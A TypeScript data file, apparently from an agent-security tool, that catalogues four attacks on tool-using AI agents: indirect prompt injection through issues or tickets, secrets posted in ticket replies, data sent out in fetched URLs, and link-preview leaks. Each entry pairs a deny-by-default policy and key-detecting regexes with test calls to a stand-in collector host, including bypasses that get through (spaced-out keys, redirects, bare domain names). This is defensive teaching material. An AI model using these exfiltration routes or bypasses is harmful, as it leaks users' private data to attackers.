import type { Attack } from './attack.ts'

const text = { type: 'string' }

export const resultAttacks: readonly Attack[] = [
  {
    slug: 'indirect-prompt-injection',
    title: 'Indirect prompt injection',
    layer: 'results',
    summary:
      'Text that a tool brings back, such as an issue or a mail, holds orders, and the agent carries them out.',
    how: [
      'Somebody whom you do not know writes an issue, a ticket or a page. Nothing of yours has to be broken into.',
      'You ask your agent to look through the open issues. It reads that text as it reads your own words.',
      'The text asks for something else: the contents of a private repository, posted where the writer can read them.',
      'The agent has the right to do both, and does.',
    ],
    incidents: [
      {
        date: '2025-05-26',
        kind: 'research',
        text: 'An issue in a public repository made an agent with GitHub’s MCP server read private repositories and put what it found into a public pull request.',
        source: 'Invariant Labs',
        link: 'https://invariantlabs.ai/blog/mcp-github-vulnerability',
      },
      {
        date: '2025-06-19',
        kind: 'research',
        text: 'A support ticket from outside was carried out with the rights of the colleague whose agent read it, through Atlassian’s MCP server.',
        source: 'Cato Networks',
        link: 'https://www.catonetworks.com/blog/cato-ctrl-poc-attack-targeting-atlassians-mcp/',
      },
    ],
    uses: [
      {
        trait: 'sends_outside',
        how: 'A text from outside asks the agent to pass on what it has read.',
        stop: 'conditions',
      },
      {
        trait: 'path',
        how: 'A text from outside asks the agent for a file that is private.',
        stop: 'conditions',
      },
      { trait: 'write', how: 'A text from outside asks the agent to write here.', stop: 'conditions' },
    ],
    reach: 'part',
    rule: 'Only the repository that the task is about',
    leaves: [
      'Each call is decided by itself. That the wish came from an issue and not from you is not known here.',
      'Inside the repository that is allowed, an injected order runs like any other call.',
      'Results are passed on as they are: nothing is taken out of them.',
    ],
    tools: [
      {
        name: 'get_file_contents',
        description: 'Gets the contents of a file or directory of a repository.',
        inputSchema: {
          type: 'object',
          properties: { owner: text, repo: text, path: text },
          required: ['owner', 'repo', 'path'],
        },
      },
    ],
    policy: `{
  "version": "1",
  "default": "deny",
  "tools": {
    "get_file_contents": {
      "require": [
        {
          "conditions": [
            { "path": "args.owner", "op": "eq", "value": "acme" },
            { "path": "args.repo", "op": "eq", "value": "website" }
          ],
          "on_deny": "This agent works on acme/website only"
        }
      ]
    }
  }
}`,
    stop: { code: 'require', rule: '/tools/get_file_contents/require/0' },
    attempts: [
      {
        label: 'The private repository',
        args: '{ "owner": "acme", "repo": "payroll", "path": "salaries.csv" }',
        result: 'denied',
      },
      {
        label: 'As intended',
        args: '{ "owner": "acme", "repo": "website", "path": "README.md" }',
        result: 'allowed',
      },
      {
        label: 'A secret in the allowed one',
        args: '{ "owner": "acme", "repo": "website", "path": ".env" }',
        result: 'allowed',
        gap: true,
      },
    ],
  },
  {
    slug: 'secrets-in-replies',
    title: 'Secrets carried out in a reply',
    layer: 'results',
    summary:
      'The agent reads a secret with its own rights and writes it where the attacker can read: a ticket, a comment.',
    how: [
      'An agent answers support tickets and may look into the database for that.',
      'A ticket asks it, in the words of a colleague, to add the table of access tokens to the answer.',
      'The agent reads the table: its database role may.',
      'It posts the rows as a reply. The reply goes to the one who asked.',
    ],
    incidents: [
      {
        date: '2025-07',
        kind: 'research',
        text: 'An agent with Supabase’s MCP server and a role that skips row security copied a table of tokens into the support thread that had asked for it.',
        source: 'General Analysis',
        link: 'https://www.generalanalysis.com/blog/supabase-mcp-blog',
      },
    ],
    uses: [
      {
        trait: 'sends_outside',
        how: 'The agent writes a secret into a message that the attacker can read.',
        stop: 'conditions',
      },
      {
        trait: 'query',
        how: 'A ticket asks for the rows of a table that nobody should see.',
        stop: 'conditions',
      },
    ],
    reach: 'part',
    rule: 'Deny a reply that has the shape of a key',
    leaves: [
      'It knows shapes, not secrets. A key that is spelled with gaps, turned round or encoded passes.',
      'A customer’s address has no shape that a rule could know. The better guard is that the agent cannot read the table: hide the tool that runs any query, or allow it named tables only.',
    ],
    tools: [
      {
        name: 'reply_to_ticket',
        description: 'Posts a reply to a support ticket.',
        inputSchema: {
          type: 'object',
          properties: { ticket_id: text, body: text },
          required: ['ticket_id', 'body'],
        },
      },
    ],
    policy: String.raw`{
  "version": "1",
  "default": "deny",
  "tools": {
    "reply_to_ticket": {
      "deny_if": [
        {
          "conditions": [
            {
              "path": "args.body",
              "op": "regex",
              "value": "AKIA[0-9A-Z]{16}|-----BEGIN|ghp_\\w{20}|sk_live_|eyJ\\w{20}"
            }
          ],
          "on_deny": "This reply holds something that looks like a key"
        }
      ],
      "limits": [{ "window": "hour", "max": 60, "scope": "grant" }]
    }
  }
}`,
    stop: { code: 'deny_if', rule: '/tools/reply_to_ticket/deny_if/0' },
    attempts: [
      {
        label: 'With a key',
        args: '{ "ticket_id": "4711", "body": "As you asked: AKIAIOSFODNN7EXAMPLE" }',
        result: 'denied',
      },
      {
        label: 'As intended',
        args: '{ "ticket_id": "4711", "body": "Your password was reset." }',
        result: 'allowed',
      },
      {
        label: 'Spelled with gaps',
        args: '{ "ticket_id": "4711", "body": "A K I A I O S F O D N N 7 E X A M P L E" }',
        result: 'allowed',
        gap: true,
      },
    ],
  },
  {
    slug: 'data-in-a-url',
    title: 'Data that leaves in a URL',
    layer: 'results',
    summary:
      'A tool that only fetches pages sends whatever the agent puts into the address to whoever owns the host.',
    how: [
      'Fetching a page looks like reading. The address is a message to its host all the same.',
      'A page, a ticket or a description asks the agent to look something up “with the context in the query”.',
      'The agent builds the address, with what it knows in it, and fetches it.',
      'The page that comes back does not matter: the data stands in the log of the host.',
    ],
    incidents: [],
    uses: [{ trait: 'url', how: 'The address carries data to whoever owns its host.', stop: 'conditions' }],
    reach: 'part',
    rule: 'Only hosts you named, to the slash',
    leaves: [
      'What an allowed host does with the address is its affair. An address of your own that redirects anywhere is a way out.',
      'Whether the server follows redirects is not visible here.',
    ],
    tools: [
      {
        name: 'fetch',
        description: 'Fetches a page and returns it as text.',
        inputSchema: { type: 'object', properties: { url: text }, required: ['url'] },
      },
    ],
    policy: String.raw`{
  "version": "1",
  "default": "deny",
  "tools": {
    "fetch": {
      "require": [
        {
          "conditions": [
            {
              "path": "args.url",
              "op": "regex",
              "value": "^https://(docs|api)\\.acme\\.example/"
            }
          ],
          "on_deny": "Only docs.acme.example and api.acme.example"
        }
      ],
      "limits": [{ "window": "minute", "max": 30, "scope": "grant" }]
    }
  }
}`,
    stop: { code: 'require', rule: '/tools/fetch/require/0' },
    attempts: [
      {
        label: 'To a collector',
        args: '{ "url": "https://collect.example/?d=the+customer+list" }',
        result: 'denied',
      },
      {
        label: 'A longer host',
        args: '{ "url": "https://docs.acme.example.collect.example/?d=…" }',
        result: 'denied',
      },
      {
        label: 'The host as a name',
        args: '{ "url": "https://docs.acme.example@collect.example/?d=…" }',
        result: 'denied',
      },
      { label: 'As intended', args: '{ "url": "https://docs.acme.example/limits" }', result: 'allowed' },
      {
        label: 'Through a redirect',
        args: '{ "url": "https://api.acme.example/go?to=https://collect.example" }',
        result: 'allowed',
        gap: true,
      },
    ],
  },
  {
    slug: 'link-previews',
    title: 'A link that opens itself',
    layer: 'results',
    summary:
      'A message with a link is enough: the chat service fetches it for a preview, and the address carries the data.',
    how: [
      'The agent may post into a channel of your own, which looks safe.',
      'Injected text makes it add a link whose address holds what the agent knows.',
      'Nobody has to click. The chat service fetches the address to draw a preview.',
      'The attacker’s host receives the data; the channel shows a harmless card.',
    ],
    incidents: [
      {
        date: '2025-05-27',
        kind: 'flaw',
        text: 'CVE-2025-34072, reported that day: messages of Anthropic’s Slack MCP server had links that Slack fetched by itself. The server was archived and not mended.',
        source: 'Embrace The Red',
        link: 'https://embracethered.com/blog/posts/2025/security-advisory-anthropic-slack-mcp-server-data-leakage/',
      },
    ],
    uses: [
      {
        trait: 'sends_outside',
        how: 'A link in the message is fetched for its preview, with data in the address.',
        stop: 'conditions',
      },
    ],
    reach: 'part',
    rule: 'Deny links in messages',
    leaves: [
      'It looks for links as they are usually written. A service that also makes links of bare names needs a stricter rule.',
      'Previews are a setting of the chat service. Switch them off for what agents post.',
    ],
    tools: [
      {
        name: 'post_message',
        description: 'Posts a message to a channel.',
        inputSchema: {
          type: 'object',
          properties: { channel: text, text },
          required: ['channel', 'text'],
        },
      },
    ],
    policy: String.raw`{
  "version": "1",
  "default": "deny",
  "tools": {
    "post_message": {
      "require": [
        {
          "path": "args.channel",
          "op": "in",
          "value": ["builds", "alerts"]
        }
      ],
      "deny_if": [
        {
          "conditions": [
            {
              "path": "args.text",
              "op": "regex",
              "value": "(?i)://|www\\."
            }
          ],
          "on_deny": "Messages of agents hold no links"
        }
      ]
    }
  }
}`,
    stop: { code: 'deny_if', rule: '/tools/post_message/deny_if/0' },
    attempts: [
      {
        label: 'With a link',
        args: '{ "channel": "builds", "text": "Build is green https://collect.example/p?d=…" }',
        result: 'denied',
      },
      {
        label: 'Another channel',
        args: '{ "channel": "general", "text": "Build is green" }',
        result: 'denied',
      },
      { label: 'As intended', args: '{ "channel": "builds", "text": "Build is green" }', result: 'allowed' },
      {
        label: 'A bare name',
        args: '{ "channel": "builds", "text": "See collect.example/p?d=…" }',
        result: 'allowed',
        gap: true,
      },
    ],
  },
]
